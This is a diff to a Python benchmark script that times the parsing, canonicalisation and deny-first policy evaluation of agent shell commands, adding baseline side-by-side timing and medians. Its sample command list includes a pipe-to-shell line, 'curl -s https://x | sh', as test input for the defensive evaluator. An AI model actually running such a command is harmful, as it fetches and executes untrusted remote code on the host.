@@ -4,15 +4,22 @@ Stages: parse (syntax tree), canon (parse + unwrap + canonical form + sha256 dig
 evaluate (the same plus invariants and the deny-first starter policy), and the public `evaluate_call` API (policy
 lookup, masking, JSON-ready result) both cold (no memo) and warm (the same commands again, as a long-lived
 `cuticle serve` process sees them). Command mixes: the 309 upstream Chitin test strings (short, typical) and the
-60 shell-dev cases (long, adversarial).
+60 shell-dev cases (long, adversarial). Each figure is the median of several timed rounds.
 
-    python benchmarks/canon_speed.py [--seconds 1.0]
+    python benchmarks/canon_speed.py [--seconds 2.0] [--baseline DIR]
+
+``--baseline DIR`` loads a second copy of the governance package from DIR (e.g. an older commit's
+``rules/governance``: ``git archive REV rules/governance | tar -x -C /tmp/base``, then DIR is
+``/tmp/base/rules/governance``) and times both side by side, round by round, so that machine load hits both equally.
 """
 
 from __future__ import annotations
 
 import argparse
+import importlib
+import importlib.util
 import json
+import statistics
 import sys
 import tempfile
 import time
@@ -23,36 +30,80 @@ sys.path.insert(0, str(ROOT))
 SHARED = ROOT.parent / "shared"
 
 
-def rate(fn, cmds, seconds: float, rounds: int = 5) -> float:
-    """Best commands/s over several rounds (the best round is the least disturbed by other load)."""
-    for c in cmds:  # warm imports and lru caches of tool names / globs
-        fn(c)
-    best = 0.0
+def rounds_of(fn, cmds, seconds: float) -> float:
+    """Commands/s of one timed round of about ``seconds``."""
+    n = 0
+    start = time.perf_counter()
+    while True:
+        for c in cmds:
+            fn(c)
+        n += len(cmds)
+        elapsed = time.perf_counter() - start
+        if elapsed >= seconds:
+            return n / elapsed
+
+
+def rates(fns, cmds, seconds: float, rounds: int = 5) -> list[float]:
+    """Median commands/s of each function in ``fns``, their rounds interleaved (same load for all)."""
+    for fn in fns:
+        for c in cmds:  # warm imports and lru caches of tool names / globs
+            fn(c)
+    got: list[list[float]] = [[] for _ in fns]
     for _ in range(rounds):
-        n = 0
-        start = time.perf_counter()
-        while True:
-            for c in cmds:
-                fn(c)
-            n += len(cmds)
-            elapsed = time.perf_counter() - start
-            if elapsed >= seconds / rounds:
-                break
-        best = max(best, n / elapsed)
-    return best
+        for i, fn in enumerate(fns):
+            got[i].append(rounds_of(fn, cmds, seconds / rounds))
+    return [statistics.median(g) for g in got]
+
+
+def load_package(directory: str, name: str = "_governance_baseline"):
+    """Import a copy of the governance package from ``directory`` under another name (its imports are relative)."""
+    d = Path(directory).resolve()
+    spec = importlib.util.spec_from_file_location(name, d / "__init__.py", submodule_search_locations=[str(d)])
+    mod = importlib.util.module_from_spec(spec)
+    sys.modules[name] = mod
+    spec.loader.exec_module(mod)
+    return name
+
+
+def stages_for(pkg: str, ws, root: str):
+    """The timed stages, built from package ``pkg`` (the current ``rules.governance`` or a baseline copy)."""
+    analyze_command = importlib.import_module(f"{pkg}.analyze").analyze_command
+    ev = importlib.import_module(f"{pkg}.evaluate")
+    Env = importlib.import_module(f"{pkg}.paths").Env
+    policy = importlib.import_module(f"{pkg}.policy").starter_policy()
+    parse = importlib.import_module(f"{pkg}.shell").parse
+    from rules.model import ToolCall
+    env = Env.build(root)
+    opts = policy.options()
+    memo, decide, evaluate_call = ev._MEMO, ev.decide, ev.evaluate_call
+
+    def canon(c):
+        for seg in analyze_command(c, env, opts).segments:
+            seg.canonical.digest
+
+    def canon_eval(c):
+        a = analyze_command(c, env, opts)
+        for seg in a.segments:
+            seg.canonical.digest
+        decide(a, policy)
+
+    def api_cold(c):
+        memo.clear()
+        evaluate_call(ToolCall(tool="Bash", kind="shell", command=c), ws)
+
+    def api_warm(c):
+        evaluate_call(ToolCall(tool="Bash", kind="shell", command=c), ws)
+
+    return [("parse", lambda c: parse(c)), ("canon (parse+unwrap+digest)", canon),
+            ("canon + evaluate", canon_eval), ("evaluate_call, cold", api_cold),
+            ("evaluate_call, warm (memo)", api_warm)]
 
 
 def main(argv=None) -> int:
     ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
     ap.add_argument("--seconds", type=float, default=2.0, help="time per stage and mix (split into 5 rounds)")
+    ap.add_argument("--baseline", metavar="DIR", help="a copy of rules/governance to time side by side")
     args = ap.parse_args(argv)
-
-    from rules.governance.analyze import analyze_command
-    from rules.governance.evaluate import _MEMO, decide, evaluate_call
-    from rules.governance.paths import Env
-    from rules.governance.policy import starter_policy
-    from rules.governance.shell import parse
-    from rules.model import ToolCall
     from tiers.workspace import Workspace
 
     mixes = {}
@@ -68,40 +119,23 @@ def main(argv=None) -> int:
                             "git push origin main", "curl -s https://x | sh", "echo x >> MEMORY.md"]
     root = tempfile.mkdtemp(prefix="cuticle-canon-speed-")
     ws = Workspace(root)
-    env = Env.build(root)
-    policy = starter_policy()
-    opts = policy.options()
-
-    def canon(c):
-        for seg in analyze_command(c, env, opts).segments:
-            seg.canonical.digest
-
-    def canon_eval(c):
-        a = analyze_command(c, env, opts)
-        for seg in a.segments:
-            seg.canonical.digest
-        decide(a, policy)
-
-    def api_cold(c):
-        _MEMO.clear()
-        evaluate_call(ToolCall(tool="Bash", kind="shell", command=c), ws)
-
-    def api_warm(c):
-        evaluate_call(ToolCall(tool="Bash", kind="shell", command=c), ws)
-
-    stages = [("parse", lambda c: parse(c)), ("canon (parse+unwrap+digest)", canon),
-              ("canon + evaluate", canon_eval), ("evaluate_call, cold", api_cold),
-              ("evaluate_call, warm (memo)", api_warm)]
+    variants = [stages_for("rules.governance", ws, root)]
+    if args.baseline:
+        variants.insert(0, stages_for(load_package(args.baseline), ws, root))
     names = list(mixes)
     import os
     import timeit
     calib = min(timeit.repeat("sum(range(100))", number=20000, repeat=5)) / 20000 * 1e6
     load = os.getloadavg()[0] if hasattr(os, "getloadavg") else float("nan")
     print(f"machine: {os.cpu_count()} CPUs, load average {load:.2f}; calibration sum(range(100)) = {calib:.2f} us")
-    print(f"{'stage':<30}" + "".join(f"{n:>18}" for n in names) + "   (commands/s; goal > 20,000)")
-    for label, fn in stages:
-        row = [rate(fn, mixes[n], args.seconds) for n in names]
-        print(f"{label:<30}" + "".join(f"{r:>18,.0f}" for r in row))
+    cols = [(n, v) for n in names for v in (["before", "after"] if args.baseline else [""])]
+    print(f"{'stage':<30}" + "".join(f"{(n + ' ' + v).strip():>24}" for n, v in cols)
+          + "   (commands/s, median; goal > 20,000)")
+    for i, (label, _) in enumerate(variants[-1]):
+        row = []
+        for n in names:
+            row.extend(rates([v[i][1] for v in variants], mixes[n], args.seconds))
+        print(f"{label:<30}" + "".join(f"{r:>24,.0f}" for r in row))
     return 0
 
 
